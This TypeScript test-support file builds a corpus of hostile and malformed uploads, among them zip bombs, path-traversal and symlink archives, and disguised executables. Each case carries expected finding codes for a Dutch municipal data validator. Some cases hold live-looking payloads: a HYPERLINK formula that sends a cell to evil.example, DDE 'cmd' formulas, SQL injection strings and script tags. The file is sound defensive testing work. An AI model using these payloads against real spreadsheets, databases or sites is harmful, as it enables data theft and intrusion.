// The hostile corpus (issue 10): bad, broken and malicious files, each built byte by byte from a
// recipe, with the outcome it must get. Small files are committed under test/fixtures/hostile/
// <case>/<file> (inspectable, and written by this module: `node --import tsx
// test/support/hostile-corpus.ts`), big ones (a 100 MB line, real zip bombs, a million columns) are
// made at test time into a temporary folder. test/fixtures/hostile/manifest.json lists every case
// with its expected finding codes; test/integration/hostile-corpus.int.test.ts runs them all
// through the API and through `ggk validate`.
import { createHash } from 'node:crypto';
import { createWriteStream, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { zipSync as fflateZipSync, type Zippable } from 'fflate';
import { loadSpec } from '../../src/modules/validation/index.ts';
import { planDelivery } from '../../src/modules/validation/generate/index.ts';
import { buildRawZip, concatBytes } from '../../src/modules/validation/zip/zip-test-support.ts';

/** fflate's zipSync with a fixed time stamp, so committed archives do not change on every rebuild. */
function zipSync(
  files: Zippable,
  options: { level?: 0 | 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 | 9 } = {},
): Uint8Array {
  return fflateZipSync(files, { ...options, mtime: new Date('2018-01-15T12:00:00Z') });
}

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
export const HOSTILE_DIR = path.join(ROOT, 'test/fixtures/hostile');
const PERIOD = '2017H2';

export interface HostileCase {
  id: string;
  /** What it is, in a few words (Dutch, as the manifest is read by people). */
  note: string;
  /** The gemeente it pretends to be from: each case has its own, so file names are unique. */
  gemeente: string;
  /** The file name as uploaded. */
  file: string;
  /** Made at test time instead of committed. */
  big: boolean;
  /** The delivery must get at least one of these finding codes (report or file level). */
  expect: string[];
  /** Through the API (which caps uploads in the test at 50 MB): a refusal instead of a report. */
  apiRefusal?: string;
  build: () => Uint8Array | Iterable<Uint8Array>;
}

let specCache: ReturnType<typeof loadSpec> | undefined;
function spec() {
  specCache ??= loadSpec(JSON.parse(readFileSync(path.join(ROOT, 'specs/gmsd/2017.json'), 'utf8')));
  return specCache;
}

function validWmo(gemeente: string, rows = 20): string {
  const parts: string[] = [];
  const decoder = new TextDecoder();
  for (const chunk of planDelivery({
    spec: spec(),
    type: 'wmo',
    gemeente,
    period: PERIOD,
    rows,
    seed: `hostile-${gemeente}`,
  }).chunks())
    parts.push(decoder.decode(chunk));
  return parts.join('');
}

const enc = (text: string) => new TextEncoder().encode(text);
const wmoName = (g: string) => `WMO_${g}_${PERIOD}.csv`;

function pseudoRandom(bytes: number, seed: string): Uint8Array {
  const out = new Uint8Array(bytes);
  for (let at = 0, i = 0; at < bytes; i++) {
    const block = createHash('sha256').update(`${seed}:${i}`).digest();
    out.set(block.subarray(0, Math.min(32, bytes - at)), at);
    at += 32;
  }
  return out;
}

function* repeated(block: Uint8Array, totalBytes: number): Iterable<Uint8Array> {
  for (let sent = 0; sent < totalBytes; sent += block.length)
    yield sent + block.length <= totalBytes ? block : block.subarray(0, totalBytes - sent);
}

function utf16(text: string, bigEndian: boolean, bom: boolean): Uint8Array {
  const out = new Uint8Array((text.length + (bom ? 1 : 0)) * 2);
  const view = new DataView(out.buffer);
  let at = 0;
  if (bom) {
    view.setUint16(0, 0xfeff, !bigEndian);
    at = 2;
  }
  for (let i = 0; i < text.length; i++, at += 2) view.setUint16(at, text.charCodeAt(i), !bigEndian);
  return out;
}

/** Replaces the value of `column` in the first data rows with `values` (one per row). */
function withCells(csv: string, column: string, values: string[]): string {
  const lines = csv.split('\n');
  const index = lines[0]!.split(';').indexOf(column);
  values.forEach((value, i) => {
    const cells = lines[i + 1]!.split(';');
    cells[index] = value;
    lines[i + 1] = cells.join(';');
  });
  return lines.join('\n');
}

const UNIX_SYMLINK = (0o120777 << 16) >>> 0;

/** Codes of gemeenten of both 31 December 2017 and 2018, one per case (file names stay unique). */
function stableCodes(): string[] {
  const codes = (year: number) =>
    new Set(
      readFileSync(path.join(ROOT, `data/gemeenten-${year}.csv`), 'utf8')
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => line.split(';')[0]!),
    );
  const later = codes(2018);
  return [...codes(2017)].filter((c) => later.has(c) && c !== '0363').sort();
}
const CODES = stableCodes();

type Recipe = Omit<HostileCase, 'gemeente' | 'file' | 'big' | 'build'> & {
  file?: (g: string) => string;
  big?: boolean;
  build: (g: string) => Uint8Array | Iterable<Uint8Array>;
};

const RECIPES: Recipe[] = [
  // --- ZIP archives ---------------------------------------------------------------------------
  {
    id: 'zip-bomb-ratio',
    note: 'ZIP-bom naar verhouding: 64 MB nullen, ruim 1000× ingepakt',
    big: true,
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe'],
    build: (g) => zipSync({ [wmoName(g)]: new Uint8Array(64 * 1024 ** 2) }, { level: 9 }),
  },
  {
    id: 'zip-bomb-size',
    note: 'ZIP-bom naar omvang: drie items die samen 12 GB uitgepakt zeggen te zijn',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe'],
    build: (g) =>
      buildRawZip(
        [1, 2, 3].map((i) => ({
          name: `WMO_${g}_${PERIOD}_${i}.csv`,
          data: enc('x'),
          declaredSize: 4_000_000_000,
        })),
      ),
  },
  {
    id: 'zip-bomb-lying-size',
    note: 'ZIP-item dat 100 bytes belooft maar 16 MB uitpakt',
    big: true,
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe', 'zip.invalid'],
    build: (g) =>
      buildRawZip([{ name: wmoName(g), data: new Uint8Array(16 * 1024 ** 2).fill(59), declaredSize: 100 }]),
  },
  {
    id: 'zip-overlapping-entries',
    note: 'ZIP met overlappende items (de truc van de niet-recursieve ZIP-bom)',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe', 'zip.invalid'],
    build: (g) =>
      buildRawZip([
        { name: wmoName(g), data: enc(validWmo(g)), method: 0, extraCompressedSize: 200 },
        { name: `WMOKOSTEN_${g}_${PERIOD}.csv`, data: enc('a;b\n'), method: 0 },
      ]),
  },
  {
    id: 'zip-nested',
    note: 'ZIP in een ZIP',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.ignored_entry', 'zip.unsafe', 'file.empty'],
    build: (g) => zipSync({ [`binnen_${g}.zip`]: zipSync({ [wmoName(g)]: enc(validWmo(g)) }) }),
  },
  {
    id: 'zip-nested-deep',
    note: 'twintig ZIP-lagen diep',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.ignored_entry', 'zip.unsafe', 'file.empty'],
    build: (g) => {
      let inner: Uint8Array = zipSync({ [wmoName(g)]: enc(validWmo(g)) });
      for (let i = 0; i < 20; i++) inner = zipSync({ [`laag${i}.zip`]: inner });
      return inner;
    },
  },
  {
    id: 'zip-recursive',
    note: 'ZIP die zichzelf als item bevat (dezelfde naam, dezelfde bytes)',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.ignored_entry', 'zip.unsafe', 'file.empty'],
    build: (g) => {
      const name = `MSD_${g}_${PERIOD}.zip`;
      const first = zipSync({ [name]: new Uint8Array(0) });
      return zipSync({ [name]: first, [`sub/${name}`]: zipSync({ [name]: first }) });
    },
  },
  {
    id: 'zip-path-traversal',
    note: 'ZIP-items met ../ in het pad',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe'],
    build: (g) => buildRawZip([{ name: `../../etc/${wmoName(g)}`, data: enc(validWmo(g)) }]),
  },
  {
    id: 'zip-absolute-path',
    note: 'ZIP-item met een absoluut pad',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe'],
    build: (g) => buildRawZip([{ name: `/tmp/${wmoName(g)}`, data: enc(validWmo(g)) }]),
  },
  {
    id: 'zip-windows-traversal',
    note: 'ZIP-item met ..\\ en een stationsletter',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe'],
    build: (g) =>
      buildRawZip([
        { name: `..\\..\\${wmoName(g)}`, data: enc(validWmo(g)) },
        { name: `C:\\Windows\\${wmoName(g)}`, data: enc(validWmo(g)) },
      ]),
  },
  {
    id: 'zip-symlink',
    note: 'ZIP met een symbolische koppeling naar /etc/passwd',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe', 'zip.ignored_entry'],
    build: (g) =>
      buildRawZip([
        {
          name: wmoName(g),
          data: enc('/etc/passwd'),
          method: 0,
          versionMadeBy: (3 << 8) | 20,
          externalAttributes: UNIX_SYMLINK,
        },
      ]),
  },
  {
    id: 'zip-encrypted',
    note: 'ZIP met een versleuteld item',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid', 'zip.unsafe'],
    build: (g) => buildRawZip([{ name: wmoName(g), data: enc(validWmo(g)), flags: 0x0801 }]),
  },
  {
    id: 'zip-too-many-entries',
    note: 'ZIP met 500 items',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe'],
    build: () =>
      buildRawZip(Array.from({ length: 500 }, (_, i) => ({ name: `bestand${i}.csv`, data: enc('a;b\n') }))),
  },
  {
    id: 'zip-truncated',
    note: 'ZIP die halverwege ophoudt',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid', 'file.unreadable'],
    build: (g) => {
      const whole = zipSync({ [wmoName(g)]: enc(validWmo(g, 200)) });
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
  },
  {
    id: 'zip-empty',
    note: 'ZIP zonder items',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid', 'file.empty', 'zip.ignored_entry'],
    build: () => buildRawZip([]),
  },
  {
    id: 'zip-crc-mismatch',
    note: 'ZIP-item met een verkeerde CRC-32',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid'],
    build: (g) => buildRawZip([{ name: wmoName(g), data: enc(validWmo(g)), crc32: 0xdeadbeef }]),
  },
  {
    id: 'zip-unknown-method',
    note: 'ZIP-item met een onbekende compressiemethode',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid', 'zip.unsafe'],
    build: (g) => buildRawZip([{ name: wmoName(g), data: enc(validWmo(g)), method: 99 }]),
  },
  {
    id: 'zip-script-entry-name',
    note: 'ZIP-item met HTML en script in de naam',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['file.name_pattern', 'zip.ignored_entry', 'zip.unsafe'],
    build: () =>
      buildRawZip([
        { name: '<script>alert(1)</script><img src=x onerror=alert(2)>.csv', data: enc('a;b\n') },
      ]),
  },
  {
    id: 'zip-control-chars-name',
    note: 'ZIP-item met NUL- en escapetekens in de naam',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe', 'zip.invalid', 'file.name_pattern', 'zip.ignored_entry'],
    build: (g) => buildRawZip([{ name: `WMO_${g}\u0000\u001b[31m_${PERIOD}.csv`, data: enc(validWmo(g)) }]),
  },
  {
    id: 'zip-duplicate-entries',
    note: 'ZIP met twee keer hetzelfde item',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.unsafe', 'zip.invalid', 'upload.duplicate_type_period', 'record.duplicate_key'],
    build: (g) =>
      buildRawZip([
        { name: wmoName(g), data: enc(validWmo(g)) },
        { name: wmoName(g), data: enc(validWmo(g)) },
      ]),
  },
  {
    id: 'zip-fake',
    note: 'willekeurige bytes met de naam van een ZIP',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid', 'file.unreadable', 'file.type_unknown', 'file.name_pattern', 'file.encoding'],
    build: (g) => pseudoRandom(64 * 1024, `zip-fake-${g}`),
  },
  {
    id: 'zip-tar-renamed',
    note: 'een tar-archief met de naam van een ZIP',
    file: (g) => `MSD_${g}_${PERIOD}.zip`,
    expect: ['zip.invalid', 'file.unreadable', 'file.type_unknown', 'file.name_pattern', 'file.encoding'],
    build: (g) => {
      const block = new Uint8Array(1024);
      block.set(enc(wmoName(g)), 0);
      block.set(enc('ustar\u000000'), 257);
      return block;
    },
  },
  // --- CSV files that are not what they say ---------------------------------------------------
  {
    id: 'csv-single-line-100mb',
    note: 'één regel van 100 MB zonder regeleinde',
    big: true,
    expect: [
      'row.column_count',
      'header.unknown_column',
      'header.missing_column',
      'file.unreadable',
      'file.type_unknown',
    ],
    apiRefusal: 'groter dan de toegestane',
    build: () =>
      repeated(
        enc('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'.repeat(1024)),
        100 * 1024 ** 2,
      ),
  },
  {
    id: 'csv-utf16le-bom',
    note: 'Wmo-bestand in UTF-16 LE met BOM',
    expect: ['file.encoding', 'file.unreadable'],
    build: (g) => utf16(validWmo(g), false, true),
  },
  {
    id: 'csv-utf16be',
    note: 'Wmo-bestand in UTF-16 BE zonder BOM',
    expect: ['file.encoding', 'file.unreadable'],
    build: (g) => utf16(validWmo(g), true, false),
  },
  {
    id: 'csv-random-bytes',
    note: '256 KB willekeurige bytes',
    expect: ['file.encoding', 'file.unreadable', 'file.type_unknown', 'header.missing_column'],
    build: (g) => pseudoRandom(256 * 1024, `random-${g}`),
  },
  {
    id: 'csv-elf-executable',
    note: 'een Linux-programma (ELF) met de naam van een CSV',
    expect: ['file.encoding', 'file.unreadable', 'file.type_unknown', 'header.missing_column'],
    build: (g) =>
      concatBytes([
        new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
        pseudoRandom(64 * 1024, `elf-${g}`),
      ]),
  },
  {
    id: 'csv-windows-executable',
    note: 'een Windows-programma (MZ/PE) met de naam van een CSV',
    expect: ['file.encoding', 'file.unreadable', 'file.type_unknown', 'header.missing_column'],
    build: (g) =>
      concatBytes([
        enc('MZ\u0090\u0000'),
        pseudoRandom(60, `mz-${g}`),
        enc('PE\u0000\u0000'),
        pseudoRandom(32 * 1024, `pe-${g}`),
      ]),
  },
  {
    id: 'csv-gzip',
    note: 'een gzip-bestand met de naam van een CSV',
    expect: ['file.encoding', 'file.unreadable', 'file.type_unknown', 'header.missing_column'],
    build: (g) =>
      concatBytes([new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), pseudoRandom(8 * 1024, `gz-${g}`)]),
  },
  {
    id: 'csv-pdf',
    note: 'een PDF met de naam van een CSV',
    expect: ['file.encoding', 'file.unreadable', 'file.type_unknown', 'header.missing_column'],
    build: (g) =>
      concatBytes([
        enc('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
        pseudoRandom(4096, `pdf-${g}`),
      ]),
  },
  {
    id: 'csv-html-script',
    note: 'een HTML-pagina met script in plaats van CSV',
    expect: ['file.type_unknown', 'header.missing_column', 'header.unknown_column', 'row.column_count'],
    build: () =>
      enc(
        '<!doctype html><html><body><script>alert(document.cookie)</script><img src=x onerror=alert(1)></body></html>\n',
      ),
  },
  {
    id: 'csv-formula-injection',
    note: 'cellen die in een spreadsheet een formule worden: =, +, -, @',
    expect: [
      'field.format',
      'field.code_unknown',
      'field.amount_invalid',
      'field.bsn_elfproef',
      'field.date_invalid',
    ],
    build: (g) => {
      let csv = validWmo(g);
      csv = withCells(csv, 'bsn', ["=cmd|' /C calc'!A0", '+1+1', '-2+3', "@SUM(1+1)*cmd|'/C calc'!A0"]);
      csv = withCells(csv, 'leveringsvorm', ['=HYPERLINK("http://evil.example/?d="&A1)', '@A1']);
      return enc(csv);
    },
  },
  {
    id: 'csv-sql-and-script-values',
    note: "SQL en script als celwaarde: '; drop table deliveries; --",
    expect: ['field.format', 'field.code_unknown', 'field.bsn_elfproef', 'field.date_invalid'],
    build: (g) => {
      let csv = validWmo(g);
      csv = withCells(csv, 'leveringsvorm', ["'; drop table deliveries; --", '<script>alert(1)</script>']);
      csv = withCells(csv, 'startdatum', ['1 OR 1=1']);
      return enc(csv);
    },
  },
  {
    id: 'csv-html-in-file-name',
    note: 'HTML en script in de bestandsnaam (bij de test gemaakt: zo’n naam hoort niet in git)',
    big: true,
    file: (g) => `<img src=x onerror=alert(1)>WMO_${g}_${PERIOD}<script>.csv`,
    expect: ['file.name_pattern'],
    build: (g) => enc(validWmo(g)),
  },
  {
    id: 'csv-very-long-file-name',
    note: 'een bestandsnaam van 250 tekens',
    file: (g) => `WMO_${g}_${PERIOD}_${'x'.repeat(230)}.csv`,
    expect: ['file.name_pattern'],
    build: (g) => enc(validWmo(g)),
  },
  {
    id: 'csv-million-columns',
    note: 'een rij met een miljoen kolommen',
    big: true,
    expect: ['row.column_count'],
    build: (g) => {
      const csv = validWmo(g, 5);
      const header = csv.slice(0, csv.indexOf('\n') + 1);
      return [enc(header), new Uint8Array(1_000_000).fill(59), enc('\n')];
    },
  },
  {
    id: 'csv-header-many-columns',
    note: 'een kopregel met 100.000 kolommen',
    big: true,
    expect: ['header.unknown_column', 'header.missing_column', 'file.type_unknown'],
    build: () => enc(`${Array.from({ length: 100_000 }, (_, i) => `kolom${i}`).join(';')}\n`),
  },
  {
    id: 'csv-deep-quoting',
    note: 'een cel van 4 MB verdubbelde aanhalingstekens',
    big: true,
    expect: ['field.format', 'row.column_count', 'field.bsn_elfproef', 'field.required'],
    build: (g) => {
      const csv = validWmo(g, 3);
      const header = csv.slice(0, csv.indexOf('\n') + 1);
      return [
        enc(header),
        enc('20180115;' + g + ';"'),
        new Uint8Array(4 * 1024 ** 2).fill(34),
        enc('";12;5;;;;;;;;;\n'),
      ];
    },
  },
  {
    id: 'csv-unterminated-quote',
    note: 'een aanhalingsteken dat tot het einde van het bestand (8 MB) openstaat',
    big: true,
    expect: ['row.column_count', 'field.format', 'file.unreadable', 'field.bsn_elfproef', 'field.required'],
    build: (g) => {
      const csv = validWmo(g, 3);
      return [enc(csv), enc(`20180115;${g};"`), ...repeated(enc('abc;def\n'.repeat(8192)), 8 * 1024 ** 2)];
    },
  },
  {
    id: 'csv-long-cell',
    note: 'één cel van 2 MB',
    big: true,
    expect: ['field.format', 'field.code_unknown', 'row.column_count'],
    build: (g) => {
      const csv = validWmo(g, 3);
      const lines = csv.split('\n');
      const cells = lines[1]!.split(';');
      cells[3] = '7'.repeat(2 * 1024 ** 2);
      lines[1] = cells.join(';');
      return enc(lines.join('\n'));
    },
  },
  {
    id: 'csv-nul-bytes',
    note: 'NUL-bytes midden in het bestand',
    expect: ['file.encoding', 'file.unreadable'],
    build: (g) => {
      const csv = enc(validWmo(g));
      const out = new Uint8Array(csv);
      out.fill(0, 400, 420);
      return out;
    },
  },
  {
    id: 'csv-latin1',
    note: 'Windows-1252-tekens (é als 0xE9) in een UTF-8-bestand',
    expect: ['file.encoding'],
    build: (g) => concatBytes([enc(validWmo(g)), new Uint8Array([0x63, 0x61, 0x66, 0xe9, 0x0a])]),
  },
  {
    id: 'csv-cr-only',
    note: 'alleen CR als regeleinde (oude Mac)',
    expect: [
      'row.column_count',
      'header.unknown_column',
      'field.format',
      'file.type_unknown',
      'header.missing_column',
      'file.encoding',
    ],
    build: (g) => enc(validWmo(g).replace(/\n/g, '\r')),
  },
  {
    id: 'csv-only-bom',
    note: 'alleen een BOM',
    expect: ['file.empty', 'header.missing_column', 'file.type_unknown'],
    build: () => new Uint8Array([0xef, 0xbb, 0xbf]),
  },
  {
    id: 'csv-zero-bytes',
    note: 'een leeg bestand',
    expect: ['file.empty'],
    build: () => new Uint8Array(0),
  },
  {
    id: 'csv-empty-lines',
    note: '10 MB lege regels na de kopregel',
    big: true,
    expect: ['row.column_count', 'file.empty', 'field.required'],
    build: (g) => {
      const csv = validWmo(g, 1);
      return [
        enc(csv.slice(0, csv.indexOf('\n') + 1)),
        ...repeated(new Uint8Array(65536).fill(10), 10 * 1024 ** 2),
      ];
    },
  },
  {
    id: 'csv-duplicate-header-columns',
    note: 'een kopregel met twee keer dezelfde kolom',
    expect: ['header.unknown_column', 'header.missing_column', 'row.column_count'],
    build: (g) => {
      const csv = validWmo(g);
      const newline = csv.indexOf('\n');
      return enc(`${csv.slice(0, newline)};bsn${csv.slice(newline).replace(/\n(?=.)/g, ';999999990\n')}`);
    },
  },
  {
    id: 'csv-semicolons-only',
    note: 'regels met alleen puntkomma’s',
    expect: ['field.required', 'row.column_count'],
    build: (g) => {
      const csv = validWmo(g, 1);
      return enc(csv.slice(0, csv.indexOf('\n') + 1) + ';;;;;;;;;;;;;\n'.repeat(1000));
    },
  },
];

export const HOSTILE_CASES: HostileCase[] = RECIPES.map((r, i) => {
  const gemeente = CODES[i]!;
  return {
    id: r.id,
    note: r.note,
    gemeente,
    file: r.file ? r.file(gemeente) : wmoName(gemeente),
    big: r.big ?? false,
    expect: r.expect,
    ...(r.apiRefusal ? { apiRefusal: r.apiRefusal } : {}),
    build: () => r.build(gemeente),
  };
});

/** Writes one case's file into `dir/<id>/<file>` and returns its path. */
export async function writeCase(c: HostileCase, dir: string): Promise<string> {
  const folder = path.join(dir, c.id);
  mkdirSync(folder, { recursive: true });
  const file = path.join(folder, c.file);
  const built = c.build();
  if (built instanceof Uint8Array) {
    writeFileSync(file, built);
    return file;
  }
  const out = createWriteStream(file);
  for (const chunk of built) if (!out.write(chunk)) await once(out, 'drain');
  out.end();
  await once(out, 'close');
  return file;
}

/** The path of a case: committed (small) or made now in `bigDir`. */
export async function caseFile(c: HostileCase, bigDir: string): Promise<string> {
  return c.big ? writeCase(c, bigDir) : path.join(HOSTILE_DIR, c.id, c.file);
}

// `node --import tsx test/support/hostile-corpus.ts`: (re)writes the committed small files and the manifest.
if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
  for (const c of HOSTILE_CASES) if (!c.big) await writeCase(c, HOSTILE_DIR);
  writeFileSync(
    path.join(HOSTILE_DIR, 'manifest.json'),
    `${JSON.stringify(
      {
        about:
          'Vijandige en kapotte bestanden (issue 10). Per geval: het bestand, of het bij de test gemaakt wordt (groot), en de bevindingscodes waarvan er minstens één moet volgen. Gemaakt door test/support/hostile-corpus.ts.',
        cases: HOSTILE_CASES.map((c) => ({
          id: c.id,
          file: `${c.id}/${c.file}`,
          generatedAtTestTime: c.big,
          note: c.note,
          expect: c.expect,
          ...(c.apiRefusal ? { apiRefusal: c.apiRefusal } : {}),
        })),
      },
      null,
      2,
    )}\n`,
  );
  process.stdout.write(
    `${HOSTILE_CASES.length} gevallen, ${HOSTILE_CASES.filter((c) => !c.big).length} vastgelegd\n`,
  );
}
